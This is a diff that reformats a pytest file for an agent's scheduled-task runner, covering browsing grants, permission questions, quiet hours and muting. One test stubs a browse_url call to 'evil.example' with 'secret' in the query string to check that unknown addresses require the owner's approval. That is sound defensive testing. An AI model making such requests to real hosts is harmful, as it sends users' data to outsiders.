@@ -45,17 +45,23 @@ def clock(monkeypatch: pytest.MonkeyPatch, model: ModelServer) -> Clock:
 
 @pytest.fixture
 def browser(clock: Clock, monkeypatch: pytest.MonkeyPatch) -> Device:
-    """A browser that is connected. What it and the reader would bring back is there already; the gateway and the grants are real."""
+    """A browser that is connected. What it and the reader would bring back is there already; the gateway and the grants
+    are real.
+    """
 
     async def browse(context: Context, tool: Tool, arguments: Any, step: Step) -> Content:
         url, is_known = resolve(context, arguments.url)
         await permit(context, tool, url, is_known=is_known)
-        page = await Page.objects.acreate(url=url, domain="coffee.example", title=WATER.title, text=WATER.text, extracted_with="text")
+        page = await Page.objects.acreate(
+            url=url, domain="coffee.example", title=WATER.title, text=WATER.text, extracted_with="text"
+        )
         handle, words = context.handles.add_page(page, url, page.domain), WATER.paragraphs[0]
         start = WATER.text.index(words)
         claim = Claim(text=words[:300], quote=words, start=start, end=start + len(words))
         context.handles.add_reading(
-            handle, page.domain, Reading(found=True, headline="", summary="", claims=[claim], link_indices=[], made_with="model")
+            handle,
+            page.domain,
+            Reading(found=True, headline="", summary="", claims=[claim], link_indices=[], made_with="model"),
         )
         return {"handle": handle, "domain": page.domain, "found": True}
 
@@ -90,7 +96,9 @@ def test_its_answer_becomes_a_message_with_the_owners_sentence_above_it(clock: C
     assert run.spent_tokens > 0
 
 
-def test_it_sees_nothing_of_the_conversation_and_of_the_preferences(clock: Clock, browser: Device, model: ModelServer) -> None:
+def test_it_sees_nothing_of_the_conversation_and_of_the_preferences(
+    clock: Clock, browser: Device, model: ModelServer
+) -> None:
     Preference.objects.create(text="canary-preference")
     run_now(scheduled("Write a line about rain"))
     run_now(scheduled("Write a line about snow"))
@@ -98,7 +106,9 @@ def test_it_sees_nothing_of_the_conversation_and_of_the_preferences(clock: Clock
     assert "rain" not in model.requests[-1].everything
 
 
-def test_it_waits_for_a_grant_without_a_slot_and_goes_on_after_the_answer(clock: Clock, browser: Device, model: ModelServer) -> None:
+def test_it_waits_for_a_grant_without_a_slot_and_goes_on_after_the_answer(
+    clock: Clock, browser: Device, model: ModelServer
+) -> None:
     schedule = scheduled()
     run = run_now(schedule)
     assert (run.state, said()) == ("parked", [])
@@ -131,7 +141,9 @@ def test_what_is_refused_is_said_and_not_asked_again(clock: Clock, browser: Devi
     assert Ask.objects.count() == 1
 
 
-def test_an_address_that_the_owner_did_not_write_is_asked_about_for_a_day(clock: Clock, browser: Device, model: ModelServer) -> None:
+def test_an_address_that_the_owner_did_not_write_is_asked_about_for_a_day(
+    clock: Clock, browser: Device, model: ModelServer
+) -> None:
     call = Reply(tools=(ToolUse("browse_url", {"url": "https://evil.example/?q=secret"}),))
     model.on(lambda request: zone(request) == "planner" and not request.tool_results, call)
     run = run_now(scheduled("Find something new"))
@@ -189,7 +201,9 @@ def test_what_a_whole_day_is_not_enough_for_ends_and_says_so(clock: Clock, brows
     assert [message.kind for message in said()] == ["failure"]
 
 
-def test_without_a_model_it_says_what_a_task_can_be_then(clock: Clock, model: ModelServer, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_without_a_model_it_says_what_a_task_can_be_then(
+    clock: Clock, model: ModelServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr("django.conf.settings.MODEL", None)
     run_now(scheduled("Write a line"))
     assert "Without a model I can only read the addresses that a task names" in said()[0].text
@@ -205,7 +219,9 @@ def test_its_page_shows_the_planner_and_the_message(clock: Clock, client: Client
     assert f"/chat/#m{said()[0].seq}" in html
 
 
-def test_its_request_holds_the_tools_for_the_web_and_the_owners_words(clock: Clock, browser: Device, model: ModelServer) -> None:
+def test_its_request_holds_the_tools_for_the_web_and_the_owners_words(
+    clock: Clock, browser: Device, model: ModelServer
+) -> None:
     run_now(scheduled())
     [request] = model.requests
     assert (sorted(request.tools), request.last_user) == (["browse_url", "browse_urls", "search_web"], TASK)
@@ -229,7 +245,8 @@ def test_a_task_that_needs_several_sites_stops_at_one_question_and_resumes_after
     assert not Grant.objects.exists()  # they were for this run
 
 
-# What it may not do yet, and nobody can be asked about --------------------------------------------------------------------------
+# What it may not do yet, and nobody can be asked about
+# --------------------------------------------------------------------------
 
 
 def answered_after(run: Run) -> Run:
@@ -249,7 +266,11 @@ def test_who_is_muted_is_asked_once_they_are_not_and_has_their_whole_time_then(
     assert (run.state, Ask.objects.get().state) == ("parked", "open")
     clock.move(hours=48)
     tick.tick()
-    assert (Ask.objects.get().state, Delivery.objects.count(), Day.objects.filter(interruptions__gt=0).exists()) == ("open", 0, False)
+    assert (Ask.objects.get().state, Delivery.objects.count(), Day.objects.filter(interruptions__gt=0).exists()) == (
+        "open",
+        0,
+        False,
+    )
     muting.unmute()
     questions.tell_held(clock.now)
     ask = Ask.objects.get()
@@ -278,7 +299,8 @@ def test_the_last_question_of_a_day_is_asked(clock: Clock, browser: Device, mode
     assert (Delivery.objects.count(), Day.objects.get().interruptions) == (1, 1)
 
 
-# What it asks where there are only browsers: it stands there until it is answered -------------------------------------------------
+# What it asks where there are only browsers: it stands there until it is answered
+# -------------------------------------------------
 
 
 @pytest.fixture
@@ -312,7 +334,9 @@ def test_a_question_of_it_is_shown_and_answered_by_a_word_as_long_as_it_waits(
     assert run.state == "done"
 
 
-def test_after_days_of_silence_it_still_waits_and_was_asked_once(clock: Clock, browser: Device, told: list[protocol.ServerFrame]) -> None:
+def test_after_days_of_silence_it_still_waits_and_was_asked_once(
+    clock: Clock, browser: Device, told: list[protocol.ServerFrame]
+) -> None:
     schedule = scheduled()
     run = run_now(schedule)
     for _ in range(7 * 24):
@@ -322,7 +346,9 @@ def test_after_days_of_silence_it_still_waits_and_was_asked_once(clock: Clock, b
     ask = Ask.objects.get()
     assert (run.state, ask.state, shown()) == ("parked", "open", [str(ask.prompt)])
     assert (said(), sum(Day.objects.values_list("interruptions", flat=True))) == ([], 1)
-    assert {(frame.type, getattr(frame, "request_id", None)) for frame in told} == {("grant.ask", ask.prompt)}  # in its place, for longer
+    assert {(frame.type, getattr(frame, "request_id", None)) for frame in told} == {
+        ("grant.ask", ask.prompt)
+    }  # in its place, for longer
     assert schedules_start.why_waiting(schedule, clock.now) == "It waits for your answer."
     assert answered_after(run).state == "done"
 
@@ -334,7 +360,9 @@ def test_a_machine_that_slept_for_days_asks_on_when_it_wakes(clock: Clock, brows
     assert (shown(), answered_after(run).state) == ([str(Ask.objects.get().prompt)], "done")
 
 
-def test_what_arose_in_quiet_hours_is_shown_when_they_are_over(clock: Clock, browser: Device, told: list[protocol.ServerFrame]) -> None:
+def test_what_arose_in_quiet_hours_is_shown_when_they_are_over(
+    clock: Clock, browser: Device, told: list[protocol.ServerFrame]
+) -> None:
     config.QUIET_FROM, config.QUIET_TO = "22:00", "07:00"
     clock.move(hours=10)  # midnight in Berlin
     run = run_now(scheduled(in_quiet_hours=True))
